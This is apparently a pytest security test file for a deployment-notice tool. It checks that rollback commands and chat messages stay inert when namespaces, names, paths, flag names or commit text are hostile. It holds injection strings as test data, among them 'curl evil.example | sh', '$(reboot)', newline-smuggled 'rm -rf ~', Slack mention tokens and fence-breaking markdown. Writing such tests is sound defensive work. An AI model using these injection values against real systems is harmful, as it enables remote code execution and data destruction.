"""Pasteable text cannot be hijacked: hostile namespaces, names, paths, flag names and commit text.

Every line of the rollback section that is a command splits (shlex) into exactly the argv gate
meant, and a shell running it runs exactly that; nothing else in the section is a command. In chat,
nothing from the change can open or close a code span or fence, link, or mention anyone.
"""

from __future__ import annotations

import json
import re
import shlex
import subprocess
import sys
from dataclasses import replace
from pathlib import Path

import pytest
from helpers import MONDAY_11
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from notice_cases import COMMIT, command_lines, context_with, deployment, passing, rollback_lines

from gate.commands.action.notes import Notes
from gate.core.models import Activation, Outcome, Verdict
from gate.core.notice.model import Notice, build_notice
from gate.core.notice.render import render_chatbot, render_json, render_text

HOSTILE_NAMESPACES = [
    "prod\nrm -rf /", "prod\n", "prod;reboot", "$(reboot)", "`id`", "prod && curl evil.example | sh", "Prod",
    "prod\n      rm -rf ~", "pr\u202eod",
]
HOSTILE_NAMES = ["api\n", "api\n      rm -rf ~", "api;reboot", "a b", "$(id)", "api`id`", "-rf"]
HOSTILE_PATHS = [
    "svc/de ploy;rm -rf ~/x.yaml", "svc/$(id)/d.yaml", "svc/a'b\"c/d.yaml", "svc/new\n      rm -rf ~\n/d.yaml",
    "svc/`id`/d.yaml", "svc/@here/d.yaml", "svc/<!channel>/d.yaml", "svc/x\u202e.yaml", "svc/&&|;<>(){}$!*?#~/d.yaml",
    "svc/trailing\n", "svc/tab\there.yaml", "svc/back\\slash.yaml",
]


def quoted(value: str) -> str:
    return json.dumps(value)  # a JSON string is a YAML double-quoted scalar


def workload(name: str = "api", namespace: str = "shop", image: str = "x:1", replicas: int = 2) -> str:
    return deployment(quoted(name), quoted(namespace), image=image, replicas=replicas)


def scenarios() -> list[object]:
    cases: list[object] = []
    for value in HOSTILE_NAMESPACES:
        for change, before, after in _changes(namespace=value):
            cases.append(pytest.param(before, after, id=f"namespace-{change}-{value!r}"))
    for value in HOSTILE_NAMES:
        for change, before, after in _changes(name=value):
            cases.append(pytest.param(before, after, id=f"name-{change}-{value!r}"))
    for value in HOSTILE_PATHS:
        for change, before, after in _changes(path=value):
            cases.append(pytest.param(before, after, id=f"path-{change}-{value!r}"))
    return cases


def _changes(
    name: str = "api", namespace: str = "shop", path: str = "svc/deploy.yaml"
) -> list[tuple[str, dict[str, str], dict[str, str]]]:
    return [
        ("image", {path: workload(name, namespace)}, {path: workload(name, namespace, image="x:2")}),
        ("replicas", {path: workload(name, namespace)}, {path: workload(name, namespace, replicas=5)}),
        ("added", {}, {path: workload(name, namespace)}),
        ("deleted", {path: workload(name, namespace)}, {}),
    ]


@pytest.mark.parametrize(("base", "head"), scenarios())
def test_every_command_line_is_exactly_the_argv_gate_meant_and_nothing_else_is_a_command(
    base: dict[str, str], head: dict[str, str]
) -> None:
    notice = build_notice(passing(), context_with(head, base))
    text = render_text(notice)
    meant = notice.rollback.commands
    assert command_lines(text) == [c.line for c in meant]
    for command in meant:
        assert shlex.split(command.line) == list(command.argv)
        assert all(token.isprintable() for token in command.argv)
    assert_section_shape(text)
    assert_chat_is_inert(notice)


def assert_section_shape(text: str) -> None:
    """Headings, prose at three spaces, commands at six, edits at eight: no other kind of line."""
    for line in rollback_lines(text):
        assert line.isprintable(), line
        assert (
            line == ""
            or line.startswith(("Rollback: ", "Command lines are indented", "A) ", "B) "))
            or re.match(r"^ {3}\S", line)
            or re.match(r"^ {6}\S", line)
            or re.match(r"^ {8}\S", line)
        ), line


def assert_chat_is_inert(notice: Notice) -> None:
    chatbot = render_chatbot(notice)
    for step in chatbot["content"]["nextSteps"]:
        assert step.count("`") in (0, 2), step  # at most one code span, whole
        assert "\n" not in step
    description = chatbot["content"]["description"]
    assert description.count("```") in (0, 2)
    for forbidden in ("<!", "<@", "@here", "@channel"):
        assert forbidden not in json.dumps(chatbot["content"], ensure_ascii=False)


# -- a shell runs exactly the argv ---------------------------------------------------------------------

@pytest.fixture
def recorder(tmp_path: Path) -> Path:
    """A PATH where git, kubectl, flux and curl only record the argv they were given."""
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    script = (
        f"#!{sys.executable}\nimport json, os, sys\n"
        "with open(os.environ['GATE_ARGV_LOG'], 'a', encoding='utf-8') as log:\n"
        "    log.write(json.dumps([os.path.basename(sys.argv[0])] + sys.argv[1:]) + '\\n')\n"
    )
    for tool in ("git", "kubectl", "flux", "curl"):
        path = bin_dir / tool
        path.write_text(script, encoding="utf-8")
        path.chmod(0o755)
    return bin_dir


@pytest.mark.parametrize("path", [p for p in HOSTILE_PATHS if p.isprintable()])
def test_a_shell_given_the_pasted_line_runs_exactly_the_argv(recorder: Path, tmp_path: Path, path: str) -> None:
    base, head = {path: workload()}, {path: workload(replicas=5)}
    notice = build_notice(passing(), context_with(head, base))
    for command in notice.rollback.commands:
        log = tmp_path / "argv.log"
        log.unlink(missing_ok=True)
        subprocess.run(["/bin/sh", "-c", command.line], check=True, timeout=30,
                       env={"PATH": str(recorder), "GATE_ARGV_LOG": str(log)})
        ran = sorted(json.loads(line) for line in log.read_text(encoding="utf-8").splitlines())
        assert ran == sorted(list(stage) for stage in command.stages)


# -- refusals say why, in the notice --------------------------------------------------------------------


@pytest.mark.parametrize(
    ("head", "says"),
    [
        pytest.param({"svc/deploy.yaml": workload(namespace="prod\n")}, "the namespace 'prod\\n' is not one gate puts",
                     id="trailing-newline-namespace"),
        pytest.param({"svc/deploy.yaml": workload(name="api\n")}, "deployment named 'api\\n' (svc/deploy.yaml): the name 'api\\n' is not one gate puts", id="name"),
        pytest.param({"svc/x\ny.yaml": workload()}, "svc/x\\ny.yaml", id="path-in-prose-escaped"),
    ],
)
def test_a_refused_value_is_shown_escaped_with_the_reason(head: dict[str, str], says: str) -> None:
    base = {p: t.replace("x:1", "x:0") for p, t in head.items()}
    text = render_text(build_notice(passing(), context_with(head, base)))
    assert says in text


def test_a_path_with_a_newline_cannot_start_a_line_of_its_own() -> None:
    path = "svc/new\n      rm -rf ~\n/d.yaml"
    base, head = {path: workload()}, {path: workload(replicas=3)}
    text = render_text(build_notice(passing(), context_with(head, base)))
    assert "\n      rm -rf ~" not in text
    assert "svc/new\\n      rm -rf ~\\n/d.yaml" in text


def test_a_flag_name_with_a_newline_stays_in_its_line() -> None:
    activation = Activation("x\n      rm -rf ~", "flags/f.json", 1, "flagd", "enabled", MONDAY_11, True)
    verdict = Verdict(outcome=Outcome.PASS, findings=(), activations=(activation,))
    text = render_text(build_notice(verdict, context_with({"flags/f.json": "{}"})))
    assert "\n      rm -rf ~" not in text
    assert_section_shape(text)


# -- chat: no span, fence, link or mention from the change ------------------------------------------------

HOSTILE_SUBJECT = "Fix `rm -rf /` @here <!channel> <!here> <@U024BE7LH> <!subteam^SAZ94GDB8> [click](https://evil.example/x)"
HOSTILE_BODY = "````\n```\nhttp://evil.example/steal @channel\nwww.evil.example and evil.example\n```\n<https://evil.example|ok>"


def test_commit_text_in_chat_carries_no_link_mention_or_span() -> None:
    commit = replace(COMMIT, subject=HOSTILE_SUBJECT, body=HOSTILE_BODY, author_name="<!channel> Eve",
                     author_email="eve@evil.example")
    notice = build_notice(passing(), context_with({"README.md": "x"}, commit=commit))
    chatbot = render_chatbot(notice)
    shown = json.dumps(chatbot, ensure_ascii=False)
    for forbidden in ("@here", "@channel", "<!channel>", "<!here>", "<@U", "<!subteam", "](", "https://evil",
                      "http://evil", "evil.example", "`rm -rf /`"):
        assert forbidden not in shown, forbidden
    description = chatbot["content"]["description"]
    body_start = description.index("*Commit message*\n") + len("*Commit message*\n")
    fence, *inside, closing = description[body_start:].split("\n")
    assert fence == closing and set(fence) == {"`"}
    assert not any("`" in line for line in inside)
    # Email and JSON carry the text as it is: there it is data, not markup.
    assert render_json(notice, {})["notice"]["commit"]["subject"] == HOSTILE_SUBJECT


def test_the_unsent_notice_cannot_close_its_fence_in_the_job_summary() -> None:
    notes = Notes()
    notes.details.append(("The deployment notice that was not sent", "body\n```\n# Injected heading\n````\nend"))
    summary = notes.markdown()
    opening = re.search(r"^(`{3,})text$", summary, flags=re.M)
    assert opening is not None
    fence = opening.group(1)
    assert len(fence) > 4
    inside = summary[opening.end():summary.index("\n" + fence + "\n", opening.end())]
    assert "# Injected heading" in inside
    assert summary.count("\n" + fence + "\n") == 1


# -- any value at all ------------------------------------------------------------------------------

HOSTILE_ALPHABET = st.sampled_from(list("ab-.z09/ ;|&$`'\"\\()<>@!*?#~{}[]\n\t\r\x1b\u202e\u2028é"))


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    namespace=st.text(HOSTILE_ALPHABET, min_size=1, max_size=12),
    name=st.text(HOSTILE_ALPHABET, min_size=1, max_size=12),
    path=st.text(HOSTILE_ALPHABET, min_size=1, max_size=16).map(lambda p: f"svc/{p}.yaml"),
    change=st.sampled_from(["image", "replicas", "added", "deleted"]),
)
def test_whatever_the_values_the_section_holds_only_the_commands_gate_meant(
    namespace: str, name: str, path: str, change: str
) -> None:
    _, base, head = next(c for c in _changes(name, namespace, path) if c[0] == change)
    notice = build_notice(passing(), context_with(head, base))
    text = render_text(notice)
    meant = notice.rollback.commands
    assert command_lines(text) == [c.line for c in meant]
    for command in meant:
        assert shlex.split(command.line) == list(command.argv)
    assert_section_shape(text)
    assert_chat_is_inert(notice)
